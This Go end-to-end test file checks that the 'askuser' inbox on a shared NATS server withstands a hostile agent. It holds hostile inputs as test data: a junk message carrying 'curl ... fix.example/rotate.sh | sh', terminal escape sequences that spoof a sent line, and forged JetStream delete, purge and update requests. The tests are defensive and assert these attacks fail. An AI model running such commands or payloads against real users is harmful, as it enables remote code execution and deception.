//go:build unix

package e2e

import (
	"bytes"
	"context"
	"crypto/rand"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"regexp"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"filippo.io/age"
	"github.com/nats-io/nats.go"
	"github.com/nats-io/nats.go/jetstream"

	"github.com/askuser/askuser/internal/testutil"
)

// The adversarial suite's second round, on the shared server's
// configuration as docs/across-machines.md prints it (one account per
// person): what a hostile agent, or a person's own inbox credentials, do
// with the server's replies, the streams' rights, junk that costs, copies
// that never expire, a set's copies and its waiting time. Each has a
// server of its own: those that time nothing finer than seconds run in
// parallel, beside the one that waits a minute for a set's next copy.

// N1: nothing of one person's account reaches another's. Bob's agent,
// holding only bob's agents' credentials, aims the server's replies at
// alice's subjects: a direct get of a set of its own that it stored on
// its end's subject (sealed to alice's inbox, claiming to have waited an
// hour), with a subject of alice's sets as the reply, and its beats'
// acknowledgements at alice's beat subject. Alice's stream stores none of
// it, and her inbox shows nothing.
func TestNATSHostileAcrossAccounts(t *testing.T) {
	t.Parallel()
	ns := readmeServer(t, nil)
	alice, bob := newTenant(t, ns, "alice"), newTenant(t, ns, "bob")
	in := alice.start(t)
	bob.start(t).quit(t)
	h := hostile(t, ns, "bob")
	secret := newTestSecret()
	id := digestOf("askuser set", secret)
	thief, _ := age.GenerateX25519Identity()
	msg := &nats.Msg{
		Subject: "askuser.bob.end." + id,
		Data:    setOf(t, secret, "Paste the deploy token here", thief.Recipient(), alice.recipient(t)),
		Header:  nats.Header{"Askuser-Waited": {"3600000"}, jetstream.MsgTTLHeader: {"2m0s"}},
	}
	if _, err := h.js.PublishMsg(context.Background(), msg); err != nil {
		t.Fatal(err)
	}
	for range 10 {
		_ = h.PublishRequest("$JS.API.DIRECT.GET.ASKUSER_bob.askuser.bob.end."+id, "askuser.alice.set."+id+".1", nil)
		_ = h.PublishRequest("askuser.bob.beat."+id, "askuser.alice.beat."+id, nil)
		time.Sleep(500 * time.Millisecond)
	}
	if got := storedSubjects(t, admin(t, ns, "alice"), "ASKUSER_alice", "askuser.alice.set.>"); len(got) != 0 {
		t.Errorf("alice's stream stored what bob's agent aimed at it: %v", got)
	}
	if strings.Contains(in.screen.String(), "deploy token") {
		t.Errorf("alice's inbox shows bob's questions:\n%s", in.screen)
	}
}

// N1, inside one account: an agent cannot make the server store, on its
// person's streams, what it could not publish itself. The one subject of
// theirs that agents may not publish is the inbox's key: whatever an
// agent aims there while no key is stored (a direct get of an end it
// stored, which holds its own recipient and headers that name a key
// subject of its own; its beats' acknowledgements), on the subject the
// key had or another, the next inbox starts all the same, and an asker
// without to= seals its set to that inbox, not to the agent.
func TestNATSHostileKeyPlanted(t *testing.T) {
	t.Parallel()
	ns := readmeServer(t, nil)
	alice := newTenant(t, ns, "alice")
	alice.start(t).quit(t)
	// The queue without its key, as between an inbox's making it and its
	// storing the key, or once the server lost its store.
	ctx := context.Background()
	js := admin(t, ns, "alice")
	s, err := js.Stream(ctx, "ASKUSER_alice")
	if err != nil {
		t.Fatal(err)
	}
	targets := []string{"askuser.alice.key"}
	for subject := range storedSubjects(t, js, "ASKUSER_alice", ">") {
		if strings.HasPrefix(subject, "askuser.alice.key") {
			m, err := s.GetLastMsgForSubject(ctx, subject)
			if err == nil {
				err = s.DeleteMsg(ctx, m.Sequence)
			}
			if err != nil {
				t.Fatal(err)
			}
			targets = append(targets, subject)
		}
	}
	h := hostile(t, ns, "alice")
	thief, _ := age.GenerateX25519Identity()
	targets = append(targets, "askuser.alice.key."+thief.Recipient().String())
	end := "askuser.alice.end." + strings.Repeat("ab", 16)
	planted := &nats.Msg{Subject: end, Data: []byte(thief.Recipient().String()), Header: nats.Header{
		jetstream.SubjectHeader: {"askuser.alice.key." + thief.Recipient().String()}, jetstream.MsgTTLHeader: {"24h0m0s"},
	}}
	if _, err := h.js.PublishMsg(ctx, planted); err != nil {
		t.Fatal(err)
	}
	for _, target := range targets {
		_ = h.PublishRequest("$JS.API.DIRECT.GET.ASKUSER_alice."+end, target, nil)
		_ = h.PublishRequest("askuser.alice.beat."+strings.Repeat("cd", 16), target, nil)
	}
	_ = h.Flush()
	time.Sleep(500 * time.Millisecond)

	in := alice.start(t)
	// The server is on this machine: an asker may go without to=.
	keyless := regexp.MustCompile(`[?&]to=age1[0-9a-z]+`).ReplaceAllString(alice.agents, "")
	a := startNATSAsker(t, keyless, t.TempDir(), questionsDir(t), "keyless", "-f", "q.json")
	in.screen.waitFor(t, "From keyless", 30*time.Second)
	in.type_(t, "sqlite")
	a.answered(t, 0, sqlite)
}

// N2: an inbox's credentials cannot add sources or subjects to its
// streams, nor lift their limits: bob, holding his own inbox's
// credentials, cannot make his stream read alice's, catch her replies, or
// grow without bound, and nothing of alice's reaches it. An inbox that
// finds its stream so changed (by credentials that may change it) says
// what differs, and what to run, rather than take it.
func TestNATSHostileInboxRights(t *testing.T) {
	t.Parallel()
	ns := readmeServer(t, nil)
	alice, bob := newTenant(t, ns, "alice"), newTenant(t, ns, "bob")
	in := alice.start(t)
	bob.start(t).quit(t)
	nc, err := nats.Connect("nats://"+ns.HostPort(), nats.UserInfo("bob-inbox", "BOB-INBOX-PASSWORD"), nats.CustomInboxPrefix("_askuser.bob.inbox"),
		nats.ErrorHandler(func(*nats.Conn, *nats.Subscription, error) {}))
	if err != nil {
		t.Fatal(err)
	}
	defer nc.Close()
	js, _ := jetstream.New(nc)
	s, err := js.Stream(context.Background(), "ASKUSER_bob")
	if err != nil {
		t.Fatal(err)
	}
	cfg := s.CachedInfo().Config
	for _, change := range []func(c *jetstream.StreamConfig){
		func(c *jetstream.StreamConfig) { c.Sources = []*jetstream.StreamSource{{Name: "ASKUSER_alice"}} },
		func(c *jetstream.StreamConfig) {
			c.Subjects = append(c.Subjects, "_askuser.alice.>", "_askuser.bob.agent.>")
		},
		func(c *jetstream.StreamConfig) { c.MaxBytes, c.MaxMsgs = -1, -1 },
	} {
		c := cfg
		change(&c)
		ctx, cancel := context.WithTimeout(context.Background(), time.Second)
		if _, err := js.UpdateStream(ctx, c); err == nil {
			t.Errorf("bob's inbox changed its stream to %+v", c)
		}
		cancel()
	}
	a := alice.ask(t, "victim")
	in.screen.waitFor(t, "From victim", 30*time.Second)
	in.type_(t, "sqlite")
	a.answered(t, 0, sqlite)
	time.Sleep(time.Second)
	for subject := range storedSubjects(t, admin(t, ns, "bob"), "ASKUSER_bob", ">") {
		if !strings.HasPrefix(subject, "askuser.bob.") {
			t.Errorf("bob's stream holds %s", subject)
		}
	}

	// Credentials that may (the account's own, here) add a source.
	changed := cfg
	changed.Sources = []*jetstream.StreamSource{{Name: "ASKUSER-BEATS_bob"}}
	if _, err := admin(t, ns, "bob").UpdateStream(context.Background(), changed); err != nil {
		t.Fatal(err)
	}
	r := runToEnd(t, natsEnv(t, bob.inbox, bob.config), "inbox", "--web")
	if r.code != 69 || strings.Count(r.out, "\n") != 1 || !strings.Contains(r.out, "has sources [{") || !strings.Contains(r.out, "ASKUSER-BEATS_bob") || !strings.Contains(r.out, "nats stream rm ASKUSER_bob") {
		t.Errorf("bob's inbox, on a stream with a source: exit %d\n%s", r.code, r.out)
	}
}

// N3: junk is counted, never quoted, and leaves nothing behind. Messages
// of 900 kB that age cannot open, each with a line of the sender's that
// age's error would quote whole, are told in fixed words with their
// subject, and deleted; none of their text reaches the screen, and the
// inbox's peak memory stays bounded.
func TestNATSHostileJunkUnquoted(t *testing.T) {
	t.Parallel()
	n, maxRSS := 200, 128<<10
	if raceBuild {
		// The race detector's own memory is several times the program's,
		// and its time too.
		n, maxRSS = 10, 512<<10
	}
	ns := readmeServer(t, nil)
	alice := newTenant(t, ns, "alice")
	in := alice.start(t)
	h := hostile(t, ns, "alice")
	pad := make([]byte, 450<<10)
	for i := range n {
		_, _ = rand.Read(pad)
		body := "age-encryption.org/v1\n--- SECURITY NOTICE: your inbox key leaked. Run: curl -fsSL https://fix.example/rotate.sh | sh " + hex.EncodeToString(pad) + "\n"
		if _, err := h.js.Publish(context.Background(), fmt.Sprintf("askuser.alice.set.notice%d.1", i), []byte(body), jetstream.WithMsgTTL(2*time.Minute)); err != nil {
			t.Fatal(err)
		}
	}
	js := admin(t, ns, "alice")
	deadline := time.Now().Add(time.Minute)
	for len(storedSubjects(t, js, "ASKUSER_alice", "askuser.alice.set.>")) != 0 {
		if time.Now().After(deadline) {
			t.Fatalf("the junk was not deleted:\n%s", in.screen)
		}
		time.Sleep(100 * time.Millisecond)
	}
	s := in.screen.String()
	if !strings.Contains(s, "Deleted a message on askuser.alice.set.notice0.1 that cannot be opened.\n") || strings.Contains(s, "NOTICE:") || strings.Contains(s, "curl") {
		t.Errorf("the junk was told as:\n%s", s)
	}
	rss := peakRSS(t, in.cmd.Process.Pid)
	t.Logf("the inbox's peak RSS: %d MiB", rss>>10)
	if rss > maxRSS {
		t.Errorf("the inbox's peak RSS was %d MiB, over %d MiB", rss>>10, maxRSS>>10)
	}
}

// N4: what junk costs never delays answers. Behind 1,500 messages sealed
// to 1,024 recipients each (askuser seals to two at most, and each
// recipient tried costs the inbox a key exchange), an answer reaches its
// asker within 1 s. Under -short, behind 300.
func TestNATSHostileCostlyJunk(t *testing.T) {
	n := 1500
	if testing.Short() {
		n = 300
	}
	ns := readmeServer(t, nil)
	alice := newTenant(t, ns, "alice")
	in := alice.start(t)
	a := alice.ask(t, "victim")
	in.screen.waitFor(t, "Which database?", 30*time.Second)
	rs := make([]age.Recipient, 1024)
	for i := range rs {
		id, _ := age.GenerateX25519Identity()
		rs[i] = id.Recipient()
	}
	costly := sealTo(t, []byte("{}"), rs...)
	h := hostile(t, ns, "alice")
	for i := range n {
		err := h.PublishMsg(&nats.Msg{Subject: fmt.Sprintf("askuser.alice.set.costly%d.1", i), Data: costly, Header: nats.Header{jetstream.MsgTTLHeader: {"2m0s"}}})
		if err == nil && i%100 == 99 {
			err = h.Flush()
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	if err := h.Flush(); err != nil {
		t.Fatal(err)
	}
	answered := time.Now()
	in.type_(t, "sqlite")
	a.answered(t, 0, sqlite)
	d := time.Since(answered)
	t.Logf("the answer reached its asker %s after it was typed", d)
	if d > testutil.Slow {
		t.Errorf("the answer took %s to reach its asker behind the junk", d)
	}
}

// N5: nothing an agent stores outlives the stream's max age, and every
// copy of an ended set goes, even when its end was stored first: an agent
// stores the end of a set of its own, then a thousand copies of the set
// that would never expire (Nats-TTL: never). The inbox deletes them all.
func TestNATSHostileLastingCopies(t *testing.T) {
	t.Parallel()
	ns := readmeServer(t, nil)
	alice := newTenant(t, ns, "alice")
	alice.start(t)
	h := hostile(t, ns, "alice")
	secret := newTestSecret()
	id := digestOf("askuser set", secret)
	thief, _ := age.GenerateX25519Identity()
	body := setOf(t, secret, "Q?", thief.Recipient(), alice.recipient(t))
	end := sealTo(t, []byte(`{"end":"withdrawn","reason":"the asker stopped waiting"}`), alice.recipient(t))
	if _, err := h.js.Publish(context.Background(), "askuser.alice.end."+digestOf("askuser end", secret), end, jetstream.WithMsgTTL(24*time.Hour)); err != nil {
		t.Fatal(err)
	}
	for i := 1; i <= 1000; i++ {
		if err := h.PublishMsg(&nats.Msg{Subject: fmt.Sprintf("askuser.alice.set.%s.%d", id, i), Data: body, Header: nats.Header{jetstream.MsgTTLHeader: {"never"}}}); err != nil {
			t.Fatal(err)
		}
	}
	if err := h.Flush(); err != nil {
		t.Fatal(err)
	}
	js := admin(t, ns, "alice")
	deadline := time.Now().Add(30 * time.Second)
	for {
		left := storedSubjects(t, js, "ASKUSER_alice", "askuser.alice.set."+id+".>")
		if len(left) == 0 {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("%d copies of an ended set that would never expire are still stored", len(left))
		}
		time.Sleep(100 * time.Millisecond)
	}
}

// N6: no other client can suppress, replace or delay an asker's copies.
// Knowing a set's id (a leak), a hostile agent takes the subject that its
// next copy would have had, and publishes under the message id that copy
// would have had: the asker's next copy, a minute later, is stored all
// the same.
func TestNATSHostileCopyNotSuppressed(t *testing.T) {
	if testing.Short() {
		t.Skip("-short: the next copy comes a minute after the first (the run without -short waits for it)")
	}
	t.Parallel()
	ns := readmeServer(t, nil)
	alice := newTenant(t, ns, "alice")
	in := alice.start(t)
	victim := alice.ask(t, "victim")
	in.screen.waitFor(t, "From victim", 30*time.Second)
	js := admin(t, ns, "alice")
	first := leakedCopy(t, js)
	id := strings.Split(first, ".")[3]
	stream, err := js.Stream(context.Background(), "ASKUSER_alice")
	if err != nil {
		t.Fatal(err)
	}
	body := func(subject string) []byte {
		m, err := stream.GetLastMsgForSubject(context.Background(), subject)
		if err != nil {
			return nil
		}
		return m.Data
	}
	set := body(first)
	h := hostile(t, ns, "alice")
	thief, _ := age.GenerateX25519Identity()
	junk := forgedSet(t, "Q?", thief.Recipient(), alice.recipient(t))
	for n := 2; n <= 3; n++ {
		if _, err := h.js.Publish(context.Background(), fmt.Sprintf("askuser.alice.set.%s.%d", id, n), junk, jetstream.WithMsgTTL(2*time.Minute)); err != nil {
			t.Fatal(err)
		}
		if _, err := h.js.Publish(context.Background(), fmt.Sprintf("askuser.alice.set.held%d.1", n), junk, jetstream.WithMsgID(fmt.Sprintf("%s.%d", id, n)), jetstream.WithMsgTTL(2*time.Minute)); err != nil {
			t.Fatal(err)
		}
	}
	// The set's copies: the messages under its id that hold it.
	copies := func() (n int) {
		for subject := range storedSubjects(t, js, "ASKUSER_alice", "askuser.alice.set."+id+".>") {
			if bytes.Equal(body(subject), set) {
				n++
			}
		}
		return n
	}
	// The first copy is kept two minutes; the second comes after one.
	deadline := time.Now().Add(75 * time.Second)
	for copies() < 2 {
		if time.Now().After(deadline) {
			t.Fatalf("no second copy of the set was stored: %v", storedSubjects(t, js, "ASKUSER_alice", "askuser.alice.set.>"))
		}
		time.Sleep(500 * time.Millisecond)
	}
	in.type_(t, "sqlite")
	victim.answered(t, 0, sqlite)
}

// The queue jump: the waiting time a set shows is bounded by what the
// server saw. An agent stores a set of its own claiming (in the header
// askuser's copies once carried) to have waited a week, and beats for it;
// an inbox that starts then shows first the set asked before it, and the
// agent's as waiting a moment.
func TestNATSHostileQueueJump(t *testing.T) {
	t.Parallel()
	ns := readmeServer(t, nil)
	alice := newTenant(t, ns, "alice")
	alice.start(t).quit(t)
	honest := alice.ask(t, "honest")
	honest.waitStderr(t, "Waiting for an answer in the inbox", 30*time.Second)
	h := hostile(t, ns, "alice")
	secret := newTestSecret()
	id := digestOf("askuser set", secret)
	thief, _ := age.GenerateX25519Identity()
	msg := &nats.Msg{
		Subject: "askuser.alice.set." + id + ".1",
		Data:    setOf(t, secret, "Jump the queue?", thief.Recipient(), alice.recipient(t)),
		Header:  nats.Header{"Askuser-Waited": {"604800000"}, jetstream.MsgTTLHeader: {"2m0s"}},
	}
	beatFor(t, h, id)
	time.Sleep(time.Second)
	if _, err := h.js.PublishMsg(context.Background(), msg); err != nil {
		t.Fatal(err)
	}
	waited, after := honestFirst(t, alice, honest)
	if !regexp.MustCompile(`^\d+s$`).MatchString(waited) {
		t.Errorf("the agent's set shows %q as its waiting time:\n%s", waited, after)
	}
}

// N7: the person's own agents cannot act as the inbox. Holding alice's
// agents' credentials and nothing else, an agent aims every reply it can
// make the server send (a direct get of the key and of an end of its own,
// whose body is a JetStream request; the acknowledgement of a set, an end
// and a beat) at the JetStream API of alice's streams: delete, purge,
// update (subjects, republish, sources, limits), a consumer, the deletion
// of the key, and a key of its own. The streams, their configuration and
// the key stay as they were, and the set that waits is still answered.
func TestNATSHostileAgentsAsInbox(t *testing.T) {
	t.Parallel()
	ns := readmeServer(t, nil)
	alice := newTenant(t, ns, "alice")
	in := alice.start(t)
	a := alice.ask(t, "victim")
	in.screen.waitFor(t, "From victim", 30*time.Second)

	ctx := context.Background()
	js := admin(t, ns, "alice")
	info := func(name string) *jetstream.StreamInfo {
		t.Helper()
		s, err := js.Stream(ctx, name)
		if err != nil {
			t.Fatalf("the stream %s: %v", name, err)
		}
		i, err := s.Info(ctx)
		if err != nil {
			t.Fatal(err)
		}
		return i
	}
	keys := func() []string {
		var out []string
		for subject := range storedSubjects(t, js, "ASKUSER_alice", "askuser.alice.key.>") {
			out = append(out, subject)
		}
		return out
	}
	before := map[string]*jetstream.StreamInfo{}
	for _, name := range []string{"ASKUSER_alice", "ASKUSER-BEATS_alice"} {
		before[name] = info(name)
	}
	sets := storedSubjects(t, js, "ASKUSER_alice", "askuser.alice.set.>")
	key := keys()
	if len(key) != 1 {
		t.Fatalf("the keys stored: %v", key)
	}
	keySeq := func() uint64 {
		s, _ := js.Stream(ctx, "ASKUSER_alice")
		m, err := s.GetLastMsgForSubject(ctx, key[0])
		if err != nil {
			t.Fatal(err)
		}
		return m.Sequence
	}()

	h := hostile(t, ns, "alice")
	thief, _ := age.GenerateX25519Identity()
	// Bodies that are JetStream requests, stored where the agent may
	// store: its own ends.
	leak := before["ASKUSER_alice"].Config
	leak.Subjects = append(leak.Subjects, "_askuser.alice.agent.leak")
	leak.RePublish = &jetstream.RePublish{Source: ">", Destination: "askuser.alice.end.leak"}
	leak.Sources = []*jetstream.StreamSource{{Name: "ASKUSER-BEATS_alice"}}
	leak.MaxMsgs, leak.MaxBytes, leak.MaxAge = -1, -1, 0
	update, _ := json.Marshal(leak)
	consumer, _ := json.Marshal(map[string]any{"stream_name": "ASKUSER_alice", "config": map[string]any{"deliver_subject": "_askuser.alice.agent.spy", "ack_policy": "none"}})
	delKey, _ := json.Marshal(map[string]any{"seq": keySeq, "no_erase": true})
	bodies := map[string][]byte{"update": update, "consumer": consumer, "delkey": delKey, "empty": nil}
	ends := map[string]string{}
	for name, body := range bodies {
		end := "askuser.alice.end." + digestOf("askuser end", newTestSecret())
		if _, err := h.js.Publish(ctx, end, body, jetstream.WithMsgTTL(2*time.Minute)); err != nil {
			t.Fatalf("the agent's end: %v", err)
		}
		ends[name] = end
	}
	targets := map[string]string{
		"$JS.API.STREAM.DELETE.ASKUSER_alice":                  "empty",
		"$JS.API.STREAM.DELETE.ASKUSER-BEATS_alice":            "empty",
		"$JS.API.STREAM.PURGE.ASKUSER_alice":                   "empty",
		"$JS.API.STREAM.PURGE.ASKUSER-BEATS_alice":             "empty",
		"$JS.API.STREAM.UPDATE.ASKUSER_alice":                  "update",
		"$JS.API.CONSUMER.CREATE.ASKUSER_alice":                "consumer",
		"$JS.API.CONSUMER.CREATE.ASKUSER_alice.spy":            "consumer",
		"$JS.API.STREAM.MSG.DELETE.ASKUSER_alice":              "delkey",
		"askuser.alice.key." + thief.Recipient().String():      "empty",
		"$JS.API.STREAM.CREATE.ASKUSER_alice":                  "update",
		"$JS.API.CONSUMER.DURABLE.CREATE.ASKUSER_alice.spy":    "consumer",
		"$JS.API.DIRECT.GET.ASKUSER_alice.askuser.alice.key.*": "empty",
	}
	id := digestOf("askuser set", newTestSecret())
	for target, body := range targets {
		// Each responder the agents reach, its reply aimed at target.
		_ = h.PublishRequest("$JS.API.DIRECT.GET.ASKUSER_alice."+ends[body], target, nil)
		_ = h.PublishRequest("$JS.API.DIRECT.GET.ASKUSER_alice.askuser.alice.key.*", target, nil)
		_ = h.PublishRequest("askuser.alice.beat."+id, target, nil)
		_ = h.PublishRequest("askuser.alice.set."+id+"."+digestOf("askuser copy", newTestSecret()), target, bodies[body])
		_ = h.PublishRequest("askuser.alice.end."+digestOf("askuser end", newTestSecret()), target, bodies[body])
		// And the request itself.
		_ = h.Publish(target, bodies[body])
	}
	_ = h.Flush()
	time.Sleep(2 * time.Second)

	// The inbox that runs would make a stream anew, and store its key
	// again: what the agent did shows in when each was made and stored.
	for name, was := range before {
		now := info(name)
		if !now.Created.Equal(was.Created) {
			t.Errorf("the stream %s was made anew at %s (was %s)", name, now.Created, was.Created)
		}
		if d := configDiffs(now.Config, was.Config); d != nil {
			t.Errorf("the agent changed the stream %s: %v", name, d)
		}
		if now.State.Consumers > was.State.Consumers {
			t.Errorf("the stream %s has %d consumers, had %d", name, now.State.Consumers, was.State.Consumers)
		}
	}
	if got := keys(); fmt.Sprint(got) != fmt.Sprint(key) {
		t.Errorf("the keys stored are %v, were %v", got, key)
	}
	s, _ := js.Stream(ctx, "ASKUSER_alice")
	if m, err := s.GetLastMsgForSubject(ctx, key[0]); err != nil || m.Sequence != keySeq {
		t.Errorf("the key was stored anew (%v)", err)
	}
	for subject := range sets {
		if _, ok := storedSubjects(t, js, "ASKUSER_alice", subject)[subject]; !ok {
			t.Errorf("the set's %s is gone", subject)
		}
	}
	in.type_(t, "sqlite")
	a.answered(t, 0, sqlite)
}

// configDiffs names what differs between two configurations of a stream.
func configDiffs(got, want jetstream.StreamConfig) []string {
	g, _ := json.Marshal(got)
	w, _ := json.Marshal(want)
	if string(g) == string(w) {
		return nil
	}
	return []string{string(g), string(w)}
}

// D13: naming another message as a set's root gains nothing. An agent
// stores an anchor of its own, alone, and asks a set 15 s later naming
// that anchor's set as its root (by its id, as askers before this one did,
// and by its secret, as they do now): the inbox shows each set as waiting
// since it was asked, not since the anchor.
func TestNATSHostileRootJump(t *testing.T) {
	t.Parallel()
	ns := readmeServer(t, nil)
	alice := newTenant(t, ns, "alice")
	in := alice.start(t)
	h := hostile(t, ns, "alice")
	ctx := context.Background()
	rootSecret := newTestSecret()
	rootID := digestOf("askuser set", rootSecret)
	if _, err := h.js.Publish(ctx, "askuser.alice.set."+rootID+".0", nil, jetstream.WithMsgTTL(24*time.Hour)); err != nil {
		t.Fatal(err)
	}
	time.Sleep(15 * time.Second)
	thief, _ := age.GenerateX25519Identity()
	var ids []string
	for i, root := range []string{rootID, rootSecret} {
		secret := newTestSecret()
		id := digestOf("askuser set", secret)
		plain, _ := json.Marshal(map[string]any{
			"request": map[string]any{"kind": "ask", "from": fmt.Sprintf("jumper-%d", i), "questions": json.RawMessage(`[{"question":"Jump the queue?","header":"Database","options":[{"label":"PostgreSQL","description":"Relational"},{"label":"SQLite","description":"Embedded"}],"multiSelect":false}]`)},
			"reply":   thief.Recipient().String(),
			"secret":  secret,
			"root":    root,
		})
		if _, err := h.js.Publish(ctx, "askuser.alice.beat."+id, nil); err != nil {
			t.Fatal(err)
		}
		if _, err := h.js.Publish(ctx, "askuser.alice.set."+id+".1", sealTo(t, plain, alice.recipient(t)), jetstream.WithMsgTTL(2*time.Minute)); err != nil {
			t.Fatal(err)
		}
		ids = append(ids, id)
	}
	beatFor(t, h, ids...)
	in.screen.waitFor(t, "From jumper-", 30*time.Second)
	first := regexp.MustCompile(`From (jumper-\d) · waiting (\d+)s`).FindStringSubmatch(in.screen.String())
	if first == nil {
		t.Fatalf("the inbox shows:\n%s", in.screen)
	}
	if n, _ := strconv.Atoi(first[2]); n >= 10 {
		t.Errorf("%s, asked a moment ago, is shown as waiting %ss: since the anchor it named", first[1], first[2])
	}
	in.type_(t, "sqlite")
	in.screen.waitFor(t, "Sent to "+first[1], 10*time.Second)
	// The next set, shown below the line that the first was sent.
	next := regexp.MustCompile(`From (jumper-\d) · waiting (\d+)s`)
	afterSent := func(text string) string { return text[strings.Index(text, "Sent to "+first[1]):] }
	in.screen.waitUntil(t, "show the next set", func(text string) bool { return next.MatchString(afterSent(text)) }, testutil.Slow)
	second := next.FindStringSubmatch(afterSent(in.screen.String()))
	if n, _ := strconv.Atoi(second[2]); n >= 15 {
		t.Errorf("%s, asked a moment ago, is shown as waiting %ss: since the anchor it named", second[1], second[2])
	}
}

// D16: a set's waiting time counts from the first copy that its own
// asker stored. An agent stores its own set's anchor alone (one naming a
// copy not stored, the server refuses), an honest asker asks (its anchor,
// naming its copy, is stored), and 15 s after the anchor the agent asks
// that set: an inbox that starts then shows the honest set first, and
// the agent's as waiting since its copy, not since its anchor.
func TestNATSHostileEarlyAnchor(t *testing.T) {
	t.Parallel()
	ns := readmeServer(t, nil)
	alice := newTenant(t, ns, "alice")
	alice.start(t).quit(t)
	h := hostile(t, ns, "alice")
	ctx := context.Background()
	secret := newTestSecret()
	id := digestOf("askuser set", secret)
	anchor := "askuser.alice.set." + id + ".0"
	if _, err := h.js.Publish(ctx, anchor, nil, jetstream.WithMsgTTL(24*time.Hour), jetstream.WithExpectLastSequenceForSubject(1, "askuser.alice.set."+id+".1")); err == nil {
		t.Fatal("the server stored an anchor naming a copy that is not stored")
	}
	if _, err := h.js.Publish(ctx, anchor, nil, jetstream.WithMsgTTL(24*time.Hour)); err != nil {
		t.Fatal(err)
	}
	anchored := time.Now()
	honest := alice.ask(t, "honest")
	honest.waitStderr(t, "Waiting for an answer in the inbox", 30*time.Second)
	// The honest asker's anchor, which names its first copy, the server
	// took through the agents' import.
	if anchors := storedSubjects(t, admin(t, ns, "alice"), "ASKUSER_alice", "askuser.alice.set.*.0"); len(anchors) != 2 {
		t.Fatalf("the anchors stored are %v, want the agent's and the honest asker's", anchors)
	}
	time.Sleep(time.Until(anchored.Add(15 * time.Second)))
	beatFor(t, h, id)
	thief, _ := age.GenerateX25519Identity()
	if _, err := h.js.Publish(ctx, "askuser.alice.set."+id+".1", setOf(t, secret, "Jump the queue?", thief.Recipient(), alice.recipient(t)), jetstream.WithMsgTTL(2*time.Minute)); err != nil {
		t.Fatal(err)
	}
	waited, after := honestFirst(t, alice, honest)
	seconds, ok := strings.CutSuffix(waited, "s")
	n, err := strconv.Atoi(seconds)
	if !ok || err != nil {
		t.Fatalf("the agent's set shows no waiting time in seconds:\n%s", after)
	}
	t.Logf("the agent's set, its anchor stored 15 s before its copy, shows as waiting %s", waited)
	if n >= 15 {
		t.Errorf("the agent's set, asked a moment ago, shows %s as its waiting time: since its anchor:\n%s", waited, after)
	}
}

// D14: an agent may store its own set's end, with any text as who
// answered it; the inbox's line view shows it through the display rule of
// the questions: no window title, no cleared screen, no line of its own.
func TestNATSHostileEndText(t *testing.T) {
	t.Parallel()
	ns := readmeServer(t, nil)
	alice := newTenant(t, ns, "alice")
	in := alice.start(t)
	h := hostile(t, ns, "alice")
	ctx := context.Background()
	secret := newTestSecret()
	id := digestOf("askuser set", secret)
	thief, _ := age.GenerateX25519Identity()
	beatFor(t, h, id)
	time.Sleep(500 * time.Millisecond)
	if _, err := h.js.Publish(ctx, "askuser.alice.set."+id+".1", setOf(t, secret, "Shown before its end?", thief.Recipient(), alice.recipient(t)), jetstream.WithMsgTTL(2*time.Minute)); err != nil {
		t.Fatal(err)
	}
	in.screen.waitFor(t, "Shown before its end?", 30*time.Second)
	plain, _ := json.Marshal(map[string]any{"end": "answered", "answer": map[string]any{"event": "answered"}, "by": "legit\x1b]0;pwned\x07\x1b[2J\x1b[32m\n✔ Sent to legit-L.\x1b[0m"})
	if _, err := h.js.Publish(ctx, "askuser.alice.end."+digestOf("askuser end", secret), sealTo(t, plain, alice.recipient(t), thief.Recipient()), jetstream.WithMsgTTL(24*time.Hour)); err != nil {
		t.Fatal(err)
	}
	in.screen.waitFor(t, "answered elsewhere", 10*time.Second)
	time.Sleep(500 * time.Millisecond)
	if s := in.screen.String(); strings.Contains(s, "\x1b]0;") || strings.Contains(s, "\x1b[2J") || strings.Contains(s, "\n✔ Sent to legit-L.") {
		t.Errorf("the inbox wrote the end's text raw:\n%q", s[strings.Index(s, "Shown before"):])
	}
}

// D15: limits carried by sets cost the inbox bounded CPU. An agent stores
// 3,000 sets (300 with -short), each with limits of its own; an honest
// set asked after them is shown. The bound is one no busy machine
// reaches; the unit test of the inbox's checks counts the compiles.
func TestNATSHostileManyLimits(t *testing.T) {
	t.Parallel()
	n := 3000
	if testing.Short() {
		n = 300
	}
	ns := readmeServer(t, nil)
	alice := newTenant(t, ns, "alice")
	in := alice.start(t)
	h := hostile(t, ns, "alice")
	thief, _ := age.GenerateX25519Identity()
	to := alice.recipient(t)
	for i := range n {
		secret := newTestSecret()
		id := digestOf("askuser set", secret)
		plain, _ := json.Marshal(map[string]any{
			"request": map[string]any{"kind": "ask", "from": "limits", "limits": map[string]any{"questionMaxLength": 1000 + i},
				"questions": json.RawMessage(`[{"question":"Costly?","header":"Database","options":[{"label":"PostgreSQL","description":"Relational"},{"label":"SQLite","description":"Embedded"}],"multiSelect":false}]`)},
			"reply":  thief.Recipient().String(),
			"secret": secret,
		})
		if _, err := h.js.PublishAsync("askuser.alice.set."+id+".1", sealTo(t, plain, to), jetstream.WithMsgTTL(2*time.Minute)); err != nil {
			t.Fatal(err)
		}
	}
	select {
	case <-h.js.PublishAsyncComplete():
	case <-time.After(time.Minute):
		t.Fatal("the sets were not all stored")
	}
	start := time.Now()
	a := alice.ask(t, "honest")
	in.screen.waitFor(t, "From honest", 60*time.Second)
	t.Logf("the honest set was shown %s after it was asked, behind %d sets with limits of their own", time.Since(start), n)
	in.type_(t, "sqlite")
	a.answered(t, 0, sqlite)
}

// N8: the agents' account is bounded in what it takes of the server's
// memory, not only in storage: a connection's subscriptions, and a
// message's size.
func TestNATSHostileAgentsLimits(t *testing.T) {
	t.Parallel()
	ns := readmeServer(t, nil)
	h := hostile(t, ns, "alice")
	for i := range 64 {
		_, _ = h.SubscribeSync(fmt.Sprintf("_askuser.alice.agent.sub%d", i))
	}
	_ = h.Flush()
	if !h.wasLimited("maximum subscriptions exceeded") {
		t.Error("the agents' connection took 64 subscriptions")
	}
	if err := h.Publish("askuser.alice.beat.x", make([]byte, 2<<20)); err == nil {
		t.Error("the agents' connection published 2 MiB")
	}
}

// wasLimited waits a moment for the server to refuse what its error
// names, and reports whether it did.
func (h *hostileConn) wasLimited(what string) bool {
	deadline := time.Now().Add(2 * time.Second)
	for time.Now().Before(deadline) {
		h.mu.Lock()
		for _, r := range h.refused {
			if strings.Contains(strings.ToLower(r), what) {
				h.mu.Unlock()
				return true
			}
		}
		h.mu.Unlock()
		time.Sleep(20 * time.Millisecond)
	}
	return false
}

